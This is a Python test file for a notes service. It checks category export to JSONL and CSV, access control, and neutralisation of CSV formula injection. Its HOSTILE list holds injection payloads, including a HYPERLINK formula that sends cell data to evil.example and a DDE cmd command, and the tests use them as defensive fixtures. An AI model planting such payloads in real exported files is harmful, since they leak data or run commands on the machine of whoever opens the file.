"""A confirmed category exports as golden eval cases (JSONL and CSV)."""

from __future__ import annotations

import csv
import io
import json

from fastapi.testclient import TestClient

from tests.conftest import auth, wait_for_run


def test_confirmed_category_exports_its_notes_as_cases(
    client: TestClient, keys: dict[str, str], demo_run: int
) -> None:
    lead = auth(keys["lead"])
    proposal = client.get(f"/api/v1/runs/{demo_run}/proposals", headers=lead).json()[0]
    done = client.post(
        f"/api/v1/proposals/{proposal['id']}/confirm",
        json={"version": proposal["version"]},
        headers=lead,
    )
    assert done.status_code == 200, done.text
    [category] = client.get("/api/v1/projects/demo/categories", headers=lead).json()
    url = f"/api/v1/projects/demo/categories/{category['id']}/export"
    # a client exports only the notes of its own batches: the lead submitted these
    mine = client.get(url, headers=auth(keys["client"]))
    assert mine.status_code == 200 and mine.text == ""
    resp = client.get(url, headers=lead)
    assert resp.status_code == 200
    assert resp.headers["content-type"].startswith("application/x-ndjson")
    cases = [json.loads(line) for line in resp.text.splitlines()]
    assert len(cases) == category["count"] == proposal["count"]
    assert {c["external_id"] for c in cases} == {m["external_id"] for m in proposal["members"]}
    assert all(c["category"] == category["name"] and c["trace_id"] for c in cases)
    as_csv = client.get(url, params={"format": "csv"}, headers=lead)
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [r["note"] for r in rows] == [c["note"] for c in cases]
    assert client.get(url, params={"format": "xml"}, headers=lead).status_code == 422
    missing = client.get("/api/v1/projects/demo/categories/999/export", headers=lead)
    assert missing.status_code == 404
    assert client.get(url, headers=auth(keys["outsider"])).status_code == 404  # as if no project


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\tTAB first",
    "\rCR first",
]


def test_csv_cells_are_safe_in_a_spreadsheet_and_jsonl_is_verbatim(
    client: TestClient, keys: dict[str, str]
) -> None:
    """OWASP's CSV-injection rule: a cell starting with = + - @ tab or CR gets a leading ';
    JSONL keeps the text exactly as submitted."""
    lead = auth(keys["lead"])
    notes = [
        {"text": f"note {i}: fine", "author": text, "external_id": text, "trace_id": text}
        for i, text in enumerate(HOSTILE)
    ] + [{"text": text} for text in HOSTILE if text.strip()]
    batch = client.post("/api/v1/projects/demo/batches", json={"notes": notes}, headers=lead)
    assert batch.status_code == 201, batch.text
    ids = batch.json()["note_ids"]
    run = client.post(
        "/api/v1/projects/demo/runs", json={"batch_id": batch.json()["id"]}, headers=lead
    )
    assert wait_for_run(client, run.json()["id"], keys["lead"])["status"] == "succeeded"
    made = client.post(
        "/api/v1/projects/demo/categories",
        json={"name": "=cmd|' /C calc'!A0", "definition": "-2+3", "note_ids": ids},
        headers=lead,
    )
    assert made.status_code == 201, made.text
    url = f"/api/v1/projects/demo/categories/{made.json()['id']}/export"
    cases = [json.loads(line) for line in client.get(url, headers=lead).text.splitlines()]
    rows = list(
        csv.DictReader(io.StringIO(client.get(url, params={"format": "csv"}, headers=lead).text))
    )
    assert len(rows) == len(cases) == len(ids)
    submitted = {n["text"].strip() for n in notes} | {n["author"] for n in notes if "author" in n}
    for case, row in zip(cases, rows, strict=True):
        for column, value in case.items():
            if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert row[column] == "'" + value, (column, value)
            else:
                assert row[column] == ("" if value is None else str(value)), (column, value)
        assert case["category"] == "=cmd|' /C calc'!A0" and case["definition"] == "-2+3"
        assert case["note"] in submitted
    authors = {c["author"] for c in cases if c["author"]}
    assert authors == {t.strip() for t in HOSTILE}  # stripped on input, verbatim in JSONL
    assert {r["note_id"] for r in rows} == {str(i) for i in ids}  # numbers are left alone
    assert all(not r[c].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)
    table = client.get("/api/v1/projects/demo/agreement.csv", headers=lead)
    assert table.status_code == 200, table.text
    for cell in (c for r in csv.reader(io.StringIO(table.text)) for c in r):
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            float(cell)  # only numbers may start so (a negative difference)


def test_cli_export_and_agreement_csv_are_neutralised_too() -> None:
    from service.notes.export import spreadsheet_safe, to_csv

    assert [spreadsheet_safe(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
        "a=1",
    ]
    assert spreadsheet_safe(-1) == -1 and spreadsheet_safe(-0.5) == -0.5
    out = to_csv([{"note": "=1+1", "note_id": -3}])  # the CLI's export writes this function
    assert "'=1+1" in out and ",-3," in out
